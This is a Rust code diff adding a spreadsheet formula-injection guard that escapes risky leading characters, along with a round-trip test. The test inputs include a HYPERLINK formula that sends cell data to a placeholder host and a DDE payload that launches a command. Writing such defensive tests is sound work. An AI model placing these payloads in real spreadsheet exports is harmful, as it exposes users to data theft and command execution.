@@ -58,9 +58,55 @@ pub fn excerpt(text: &str, max: usize) -> String {
     format!("{head}…（共 {n} 个字符）")
 }
 
+/// Characters that make a spreadsheet run a cell as a formula (or a DDE command).
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell a spreadsheet will not run as a formula: text starting with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return gets a leading apostrophe, and so does text that starts with one, so
+/// that [`from_spreadsheet`] gives back exactly what was written.
+pub fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    // A plain number (`-5`, `+1.5e3`) is only a number to a spreadsheet: kept as it is.
+    let number = text.parse::<f64>().is_ok_and(f64::is_finite) && text.bytes().all(|b| b"+-.eE0123456789".contains(&b));
+    if !number && (text.starts_with(FORMULA_START) || text.starts_with('\'')) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+/// The value of a cell written by [`spreadsheet_safe`] (or typed with Excel's text apostrophe).
+pub fn from_spreadsheet(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) || rest.starts_with('\'') => rest,
+        _ => text,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn cells_never_become_formulas_and_come_back_unchanged() {
+        for original in [
+            "=HYPERLINK(\"http://x.example/\"&A1)",
+            "=cmd|' /C calc'!A0",
+            "+1+cmd",
+            "-2+3",
+            "@SUM(1)",
+            "'quoted",
+            "''",
+            "普通名称",
+            "",
+        ] {
+            let cell = spreadsheet_safe(original);
+            assert!(!cell.starts_with(FORMULA_START), "{original}");
+            assert_eq!(from_spreadsheet(&cell), original);
+        }
+        assert_eq!(spreadsheet_safe("keji"), "keji");
+        assert_eq!(spreadsheet_safe("-5"), "-5", "numbers stay numbers");
+        assert_eq!(spreadsheet_safe("-5+5"), "'-5+5");
+    }
 
     #[test]
     fn refuses_controls_and_direction_changes_and_says_where() {
